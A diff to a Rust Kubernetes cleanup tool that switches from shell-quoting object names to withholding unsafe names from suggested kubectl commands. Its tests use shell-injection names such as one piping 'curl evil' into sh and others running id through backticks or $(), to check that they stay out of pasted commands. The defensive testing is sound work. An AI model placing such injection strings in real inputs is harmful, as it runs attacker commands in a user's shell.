@@ -77,20 +77,19 @@ async fn held_of(
 /// How an object is reported. Without a namespace it is one outside all.
 pub(super) fn entry(namespace: &str, kind: &str, group: &str, name: &str, finalizers: &[String]) -> Remaining {
     let resource = kind.to_lowercase() + if group.is_empty() { "" } else { "." } + group;
-    let mut target = quoted(&format!("{resource}/{name}"));
+    let mut target = format!("{resource}/{name}");
     if !namespace.is_empty() {
-        target = format!("{target} -n {namespace}");
+        target += &format!(" -n {namespace}");
     }
     let (reason, command) = match (finalizers, kind) {
-        ([], "Pod") => ("its containers have not ended", format!("kubectl delete {target} --force")),
-        ([], _) => ("was told to go and is still there", String::new()),
+        ([], "Pod") => ("its containers have not ended".to_owned(), format!("kubectl delete {target} --force")),
+        ([], _) => ("was told to go and is still there".to_owned(), String::new()),
         _ => (
-            "",
+            format!("{FINALIZERS}{}", finalizers.join(", ")),
             format!(r#"kubectl patch {target} --type=json -p='[{{"op":"remove","path":"/metadata/finalizers"}}]'"#),
         ),
     };
-    let reason =
-        if finalizers.is_empty() { reason.to_owned() } else { format!("{FINALIZERS}{}", finalizers.join(", ")) };
+    let command = if is_plain(name) { command } else { listing(namespace) };
     Remaining { object: format!("{kind}/{name}"), reason, command }
 }
 
@@ -102,10 +101,9 @@ pub(super) fn listing(namespace: &str) -> String {
     )
 }
 
-/// Names of some kinds (roles) may have anything in them, and a person pastes this into a shell.
-fn quoted(text: &str) -> String {
-    let is_plain = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'/' | b':' | b'_');
-    if text.bytes().all(is_plain) { text.to_owned() } else { format!("'{}'", text.replace('\'', r"'\''")) }
+/// Names of some kinds (roles) may have anything in them, and a person pastes a command into a shell.
+fn is_plain(name: &str) -> bool {
+    name.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b':' | b'_'))
 }
 
 /// The finalizers that a report names.
@@ -152,9 +150,12 @@ mod tests {
     }
 
     #[test]
-    fn a_name_with_a_shell_command_in_it_stays_a_name() {
-        let command = stuck("Role", "rbac.authorization.k8s.io", "x'; curl evil | sh").command;
-        assert!(command.contains(r"'role.rbac.authorization.k8s.io/x'\''; curl evil | sh' -n pr-1"), "{command}");
+    fn a_name_with_a_shell_command_in_it_is_not_in_the_command() {
+        for name in ["x; curl evil | sh", "x`id`", "x' '$(id)"] {
+            let remaining = stuck("Role", "rbac.authorization.k8s.io", name);
+            assert_eq!(remaining.command, listing("pr-1"), "{name}");
+        }
+        assert!(stuck("Role", "rbac.authorization.k8s.io", "system:x").command.contains("/system:x -n pr-1 "));
     }
 
     #[test]
